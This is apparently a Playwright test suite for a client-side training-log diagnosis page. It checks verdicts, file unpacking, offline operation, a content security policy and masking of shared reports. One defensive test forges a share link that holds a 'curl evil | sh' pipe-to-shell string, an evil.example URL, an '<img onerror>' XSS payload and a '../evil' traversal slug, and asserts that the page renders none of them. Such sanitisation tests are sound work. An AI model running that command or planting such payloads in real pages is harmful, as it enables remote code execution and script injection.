"""The page that diagnoses logs, in a real browser: from a log to a verdict, and nothing leaves."""

from __future__ import annotations

import base64
import gzip
import hashlib
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
from site_build import CHROMIUM, build, serve

from faultbook.book import load_book
from faultbook_mkdocs.policy import policy, with_policy

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None and not os.environ.get("CI"), reason="Chromium is not installed"),
]

ROOT = Path(__file__).parent.parent
INCIDENTS = ROOT / "incidents"
LOG = (INCIDENTS / "ddp-one-rank-skips-a-branch/train.log").read_text("utf-8")
GPU = INCIDENTS / "nccl-timeout-behind-a-dead-gpu"
UNKNOWN = """step 1 loss 2.5
Traceback (most recent call last):
  File "/home/alice/run/train.py", line 12, in <module>
    main()
  File "/home/alice/run/train.py", line 9, in main
    raise OSError(116, "Stale file handle", "/mnt/nfs/shard-00097.tar")
OSError: [Errno 116] Stale file handle: '/mnt/nfs/shard-00097.tar'
"""


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    to = tmp_path_factory.mktemp("site")
    done = build(ROOT, to, FAULTBOOK_PUBLISH="all")
    assert done.returncode == 0, done.stdout + done.stderr
    with serve(to) as at:
        yield at


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"]
        )
        yield chromium
        chromium.close()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    made = browser.new_context(viewport={"width": 1280, "height": 844})
    made.grant_permissions(["clipboard-read", "clipboard-write"])
    yield made
    made.close()


@pytest.fixture
def errors() -> list[str]:
    return []


@pytest.fixture
def page(context: BrowserContext, address: str, errors: list[str]) -> Iterator[Page]:
    made = watched(context, errors)
    made.goto(f"{address}diagnose/")
    yield made
    assert errors == []


def watched(context: BrowserContext, errors: list[str]) -> Page:
    """Return a page whose errors, warnings and breaches of its policy are told."""
    made = context.new_page()
    made.set_default_timeout(15_000)
    made.on("console", lambda m: errors.append(f"{m.type}: {m.text}") if m.type in {"error", "warning"} else None)
    made.on("pageerror", lambda error: errors.append(str(error)))
    return made


def paste(page: Page, log: str) -> None:
    page.fill("#fb-text", log)
    page.click("#fb-go")


def verdict(page: Page) -> str:
    page.wait_for_selector("#fb-verdict")
    return page.inner_text("#fb-verdict")


def copied(page: Page, button: str) -> str:
    page.click(button)
    expect(page.locator(".fb-share [role=status]")).to_contain_text("copied")
    return str(page.evaluate("navigator.clipboard.readText()"))


def test_a_pasted_log_gets_its_verdict_with_line_entry_and_fix(page: Page) -> None:
    paste(page, LOG)
    assert verdict(page).startswith("Rank 2 failed first: DDP:")
    assert page.evaluate("document.activeElement.id") == "fb-verdict"
    assert "pasted.log:55" in page.inner_text(".fb-first")
    assert page.inner_text(".fb-first mark").startswith("55  ")
    assert (page.get_attribute(".fb-answer h3 a", "href") or "").endswith("/distributed/ddp-unused-parameters/")
    assert "First fix" in page.inner_text(".fb-answer")
    assert "Verify" in page.inner_text(".fb-answer")
    order = page.evaluate(
        "[...document.querySelectorAll('#fb-verdict, .fb-first, .fb-answer, .fb-picture, .fb-notes')].map(e => e.className)"
    )
    assert [name.split()[0].partition("-verdict")[0] for name in order] == [
        "fb",
        "fb-first",
        "fb-quick",
        "fb-figure",
        "fb-notes",
    ]


def test_chosen_files_are_diagnosed_together_and_a_packed_one_is_unpacked(page: Page, tmp_path: Path) -> None:
    packed = tmp_path / "dmesg-node-1.txt.gz"
    packed.write_bytes(gzip.compress((GPU / "dmesg-node-1.txt").read_bytes()))
    page.set_input_files("#fb-files", [GPU / "node-0.log", GPU / "node-1.log", packed])
    expect(page.locator("#fb-chosen li")).to_have_count(3)
    page.click("#fb-go")
    assert "GPU has fallen off the bus" in verdict(page)
    assert "dmesg-node-1.txt.gz:26" in page.inner_text(".fb-first")
    assert page.locator(".fb-event-initiating").count() == 2


def test_two_files_of_one_name_stay_two(page: Page, tmp_path: Path) -> None:
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "train.log").write_text(UNKNOWN)
    page.set_input_files("#fb-files", [tmp_path / "a/train.log", tmp_path / "b/train.log"])
    expect(page.locator("#fb-chosen li")).to_have_count(2)
    assert [text.split(" 3")[0] for text in page.locator("#fb-chosen li").all_inner_texts()] == [
        "train.log",
        "train.log (2)",
    ]


def test_a_file_that_cannot_be_unpacked_is_said(page: Page, tmp_path: Path) -> None:
    whole = gzip.compress(LOG.encode() + os.urandom(200_000))
    (tmp_path / "cut.log.gz").write_bytes(whole[: len(whole) // 2])
    (tmp_path / "x.log.zst").write_bytes(b"\x28\xb5\x2f\xfd\0\0\0\0")
    page.set_input_files("#fb-files", [tmp_path / "cut.log.gz", tmp_path / "x.log.zst"])
    page.click("#fb-go")
    verdict(page)
    assert "cut.log.gz could not be unpacked to its end" in page.inner_text("#fb-result")
    assert "x.log.zst is packed with zstd" in page.inner_text("#fb-result")


def test_what_powershell_redirects_to_a_file_is_diagnosed(page: Page, tmp_path: Path) -> None:
    (tmp_path / "train.log").write_bytes(LOG.encode("utf-16"))
    page.set_input_files("#fb-files", tmp_path / "train.log")
    page.click("#fb-go")
    assert verdict(page).startswith("Rank 2 failed first: DDP:")
    assert "train.log:55" in page.inner_text(".fb-first")


def test_a_long_log_is_read_by_helpers_and_answered_as_by_one(page: Page, tmp_path: Path) -> None:
    workers: list[str] = []
    page.on("worker", lambda worker: workers.append(worker.url) if worker.url.startswith("blob:") else None)
    healthy = b"".join(b"record %6d was read, and the rest of its line says nothing\n" % n for n in range(600_000))
    (tmp_path / "long.log").write_bytes(healthy + LOG.encode() + healthy)
    page.set_input_files("#fb-files", tmp_path / "long.log")
    page.click("#fb-go")
    page.wait_for_selector("#fb-verdict", timeout=120_000)
    assert verdict(page).startswith("Rank 2 failed first: DDP:")
    assert "long.log:600055" in page.inner_text(".fb-first")
    assert len(workers) > ((os.cpu_count() or 1) > 1), "no helper was started"


def test_a_dropped_file_is_diagnosed_at_once(page: Page) -> None:
    page.evaluate(
        """log => {
          const data = new DataTransfer();
          data.items.add(new File([log], "dropped.log"));
          document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
        }""",
        LOG,
    )
    assert verdict(page).startswith("Rank 2 failed first")
    assert "dropped.log:55" in page.inner_text(".fb-first")


@pytest.mark.parametrize("id_", sorted(load_book(ROOT)[0].incidents))
def test_a_sample_is_one_click_away_and_its_verdict_is_its_entry(page: Page, id_: str) -> None:
    incident = load_book(ROOT)[0].incidents[id_]
    page.click(f"a[data-incident={id_}]")
    verdict(page)
    assert (page.get_attribute(".fb-answer h3 a", "href") or "").endswith(f"/{incident.entry}/")
    assert page.url.endswith(f"#incident={id_}")
    first = page.inner_text(".fb-first")
    assert any(f"{incident.initiating.file}:{line}" in first for line in incident.initiating.lines)
    if incident.initiating.rank is not None:
        assert first.startswith(f"Rank {incident.initiating.rank}")


def test_an_incident_page_opens_its_logs_here(context: BrowserContext, address: str, errors: list[str]) -> None:
    page = watched(context, errors)
    page.goto(f"{address}incidents/oom-with-gigabytes-free/")
    assert page.locator(".fb-timeline").is_visible()
    page.click("text=Open its logs in Diagnose")
    assert "CUDA out of memory" in verdict(page)
    assert errors == []


def test_nothing_is_loaded_before_use_and_no_request_follows_a_log(
    context: BrowserContext, address: str, errors: list[str]
) -> None:
    page = watched(context, errors)
    requests: list[Any] = []
    context.on("request", lambda request: requests.append(request))  # noqa: PLW0108 -- Playwright marks the function
    page.goto(f"{address}diagnose/", wait_until="networkidle")
    before = {request.url.removeprefix(address) for request in requests}
    assert {path for path in before if "diagnose" in path} == {"diagnose/", "assets/diagnose.css", "assets/diagnose.js"}
    assert "signatures.json" not in before
    paste(page, LOG)
    verdict(page)
    used = {request.url.removeprefix(address) for request in requests if not request.url.startswith("blob:")} - before
    assert all(re.fullmatch(r"assets/(?:diagnose-|engine/)[\w/-]+\.js|signatures\.json", path) for path in used), used
    assert {request.method for request in requests} == {"GET"}
    # Everything is here now: no request at all, and no need of a network.
    del requests[:]
    context.set_offline(True)
    paste(page, UNKNOWN)
    expect(page.locator("#fb-verdict")).to_contain_text("the book has no entry")
    page.click(".fb-first .fb-ref")
    page.wait_for_selector(".fb-around mark")
    assert [request.url for request in requests] == []
    assert errors == []


def test_the_policy_stops_page_and_worker_from_asking_another_host(
    context: BrowserContext, address: str, tmp_path: Path
) -> None:
    page = context.new_page()
    page.goto(f"{address}diagnose/")
    ask = """async (to) => {
      const ask = `fetch(${JSON.stringify(to)}, { mode: "no-cors" }).then(() => "sent", () => "stopped")`;
      const address = URL.createObjectURL(new Blob([`${ask}.then(postMessage)`], { type: "text/javascript" }));
      const worker = new Worker(address, { type: "module" });
      const inWorker = new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data)));
      const inPage = fetch(to, { mode: "no-cors" }).then(() => "sent", () => "stopped");
      return [await inPage, await inWorker];
    }"""
    with serve(tmp_path) as elsewhere:
        assert page.evaluate(ask, elsewhere) == ["stopped", "stopped"]
        page.goto(f"{address}about/")
        assert page.evaluate(ask, elsewhere) == ["sent", "sent"]


def test_the_policy_allows_the_scripts_that_stand_in_the_page_and_no_others() -> None:
    html = '<head><meta charset="utf-8"><script>a()</script><script type="application/json">{}</script><script src="x"></script>'
    digest = base64.b64encode(hashlib.sha256(b"a()").digest()).decode()
    assert f"script-src 'self' 'sha256-{digest}'; " in policy(html)
    assert with_policy(html).index("Content-Security-Policy") < with_policy(html).index("<script>")
    with pytest.raises(ValueError, match="no <meta charset>"):
        with_policy("<head></head>")


def test_a_line_opens_with_twenty_lines_on_each_side(page: Page) -> None:
    paste(page, LOG)
    verdict(page)
    page.click(".fb-first .fb-ref")
    rows = page.locator(".fb-around .fb-row")
    expect(rows).to_have_count(41)
    lines = LOG.split("\n")
    assert rows.nth(20).inner_text().split("  ", 1)[0] == "55"
    assert rows.nth(0).inner_text() == f"35  {lines[34]}"
    page.click(".fb-first .fb-ref")
    expect(page.locator(".fb-around")).to_have_count(0)


def test_an_unknown_failure_shows_exception_frame_and_how_to_begin_an_entry(page: Page) -> None:
    paste(page, UNKNOWN)
    assert "the book has no entry for it yet" in verdict(page)
    answer = page.inner_text(".fb-answer")
    assert "OSError: [Errno 116] Stale file handle" in answer
    assert "/home/alice/run/train.py:9 in main" in answer
    assert "faultbook new AREA/ID --from pasted.log" in answer


def test_a_healthy_log_and_an_empty_one_are_told_apart(page: Page) -> None:
    paste(page, (ROOT / "tests/benign/deepspeed.log").read_text("utf-8"))
    assert verdict(page) == "No failure in these logs"
    assert "exits successfully" in page.inner_text("#fb-result mark")
    page.fill("#fb-text", "   ")
    page.click("#fb-go")
    expect(page.locator("#fb-status")).to_contain_text("Paste a log")
    assert page.evaluate("document.activeElement.id") == "fb-text"


def test_reading_can_be_cancelled_and_begun_again(page: Page, tmp_path: Path) -> None:
    big = tmp_path / "big.log"
    big.write_bytes(b"2026-11-03 03:41:07 rank 3 INFO step 1234 loss 2.345\n" * 4_000_000)
    page.set_input_files("#fb-files", big)
    page.click("#fb-go")
    expect(page.locator("#fb-status")).to_contain_text("of 212 MB read")
    page.click("#fb-cancel")
    expect(page.locator("#fb-status")).to_have_text("Cancelled.")
    expect(page.locator("#fb-go")).to_be_enabled()
    page.click("#fb-chosen button")
    paste(page, LOG)
    assert verdict(page).startswith("Rank 2")


def test_a_report_is_shown_masked_before_it_is_copied(page: Page) -> None:
    paste(page, UNKNOWN.replace("step 1", "password=hunter2 step 1"))
    verdict(page)
    page.click(".fb-share summary")
    assert "/home/[user-1]/run/train.py" in page.inner_text(".fb-preview")
    assert page.locator(".fb-preview mark").count() >= 1
    report = copied(page, "#fb-copy-report")
    assert report == page.inner_text(".fb-preview")
    assert "alice" not in report
    assert "OSError: [Errno 116]" in report
    page.uncheck("#fb-mask")
    assert "alice" in copied(page, "#fb-copy-report")
    assert page.locator(".fb-preview mark").count() == 0


def test_a_link_holds_the_result_and_not_the_log(page: Page, context: BrowserContext, errors: list[str]) -> None:
    page.click("a[data-incident=nccl-timeout-behind-a-dead-gpu]")
    said = verdict(page)
    page.click(".fb-share summary")
    link = copied(page, "#fb-copy-link")
    assert len(link) < 4000
    other = watched(context, errors)
    other.goto(link)
    assert verdict(other) == said
    assert "the log is not in it" in other.inner_text("#fb-result")
    assert "GPU has fallen off the bus." in other.inner_text(".fb-first mark")
    assert other.inner_text(".fb-answer h4") == "First fix"
    assert other.locator(".fb-timeline").is_visible()
    assert other.locator(".fb-ref").count() == 0


def test_a_link_is_always_masked(page: Page, context: BrowserContext, errors: list[str]) -> None:
    paste(page, UNKNOWN.replace("/mnt/nfs", "/home/alice"))
    verdict(page)
    page.click(".fb-share summary")
    page.uncheck("#fb-mask")
    other = watched(context, errors)
    other.goto(copied(page, "#fb-copy-link"))
    verdict(other)
    assert "alice" not in other.inner_text("#fb-result")
    assert "/home/[user-1]" in other.inner_text("#fb-result")


def test_a_forged_link_cannot_speak_for_the_book_nor_leave_it(
    context: BrowserContext, address: str, errors: list[str]
) -> None:
    page = watched(context, errors)
    page.goto(f"{address}diagnose/")
    forged = page.evaluate(
        """async () => {
          const { toFragment } = await import("../assets/diagnose-link.js");
          const item = { slug: "memory/cuda-oom-capacity", title: "EVIL", summary: "EVIL", fix: "EVIL", code: "curl evil | sh", url: "https://evil.example/",
            file: "a", line: 1, rank: 0, ranks: [], captures: { x: "<img src=x onerror=alert(1)>" }, signature: "s", verify: "EVIL", confirm: "EVIL", risk: "EVIL", takes: "EVIL", context: [] };
          const answer = { format: 1, verdict: "diagnosed", initiating: null, diagnoses: [item, { ...item, slug: "../evil" }], similar: [], collateral: [],
            ruled_out: [], missing: [], grounds: null, events: [], files: [{ name: "a", bytes: 1, lines: 1 }] };
          return toFragment(answer, (text) => text);
        }"""
    )
    page.goto(f"{address}diagnose/?again#{forged}")
    verdict(page)
    result = page.locator("#fb-result")
    assert "EVIL" not in result.inner_text()
    assert result.locator("img").count() == 0
    assert all("evil" not in link for link in result.locator("a").evaluate_all("all => all.map(a => a.href)"))
    page.goto(f"{address}diagnose/?broken#r=AAAA")
    expect(page.locator("#fb-status")).to_contain_text("holds no result")
    assert errors == []


def test_a_figure_is_shown_with_its_curve(context: BrowserContext, address: str, errors: list[str]) -> None:
    page = watched(context, errors)
    page.goto(f"{address}diagnose/")
    fragment = page.evaluate(
        """async () => {
          const { toFragment } = await import("../assets/diagnose-link.js");
          const loss = { slug: null, figure: "loss", when: "not-finite", file: "a.log", line: 5, step: "4", time: null, value: "nan",
            baseline: "2.5", values: ["3.0", "2.5", "2.4", "nan", "nan"], at: 3 };
          return toFragment({ format: 1, verdict: "inconclusive", initiating: null, diagnoses: [], similar: [], collateral: [], ruled_out: [],
            missing: [], grounds: null, figures: [loss], events: [], files: [{ name: "a.log", bytes: 1, lines: 9 }] }, (text) => text);
        }"""
    )
    page.goto(f"{address}diagnose/?figure#{fragment}")
    verdict(page)
    assert "Loss is nan (baseline 2.5), since step 4, a.log:5" in page.inner_text(".fb-figures")
    assert page.locator(".fb-curve polyline").count() == 1
    assert page.locator(".fb-curve .fb-event-initiating").count() == 1
    assert errors == []


def test_the_keyboard_alone_is_enough(page: Page) -> None:
    def tab_to(selector: str) -> None:
        for _ in range(40):
            page.keyboard.press("Tab")
            if page.evaluate("s => document.activeElement.matches(s)", selector):
                return
        raise AssertionError(f"Tab does not reach {selector}")

    tab_to("#fb-text")
    page.keyboard.insert_text(UNKNOWN)
    tab_to("#fb-files")
    tab_to("#fb-go")
    page.keyboard.press("Enter")
    verdict(page)
    assert page.evaluate("document.activeElement.id") == "fb-verdict"
    tab_to(".fb-first .fb-ref")
    page.keyboard.press("Enter")
    page.wait_for_selector(".fb-around mark")
    tab_to(".fb-share summary")
    page.keyboard.press("Space")
    tab_to("#fb-mask")
    page.keyboard.press("Space")
    assert not page.is_checked("#fb-mask")
    tab_to("#fb-copy-report")
    page.keyboard.press("Enter")
    expect(page.locator(".fb-share [role=status]")).to_contain_text("copied")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_telephone_needs_no_side_scroll_and_every_control_has_a_name(
    browser: Browser, address: str, errors: list[str], scheme: Any
) -> None:
    context = browser.new_context(viewport={"width": 390, "height": 844}, color_scheme=scheme, reduced_motion="reduce")
    page = watched(context, errors)
    for id_ in ("nccl-timeout-behind-a-dead-gpu", "oom-with-gigabytes-free", "vllm-cache-too-small"):
        page.goto("about:blank")
        page.goto(f"{address}diagnose/#incident={id_}")
        verdict(page)
        for fold in page.locator("#fb-result details > summary").all():
            fold.click()
        page.click(".fb-first .fb-ref")
        page.wait_for_selector(".fb-around mark")
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
    unnamed = page.evaluate(
        """[...document.querySelectorAll('.fb-diagnose :is(button, input, textarea, a, progress)')]
          .filter(e => !(e.textContent.trim() || e.ariaLabel || e.labels?.length)).map(e => e.outerHTML)"""
    )
    assert unnamed == []
    ids = page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)")
    assert len(ids) == len(set(ids))
    context.close()
    assert errors == []


def test_without_javascript_the_page_says_what_to_do(browser: Browser, address: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{address}diagnose/")
    assert not page.locator("#fb-form").is_visible()
    assert "faultbook diagnose LOG..." in page.inner_text(".fb-unproven")
    page.click("a[data-incident=vllm-cache-too-small]")
    assert page.locator("#story").is_visible()
    context.close()
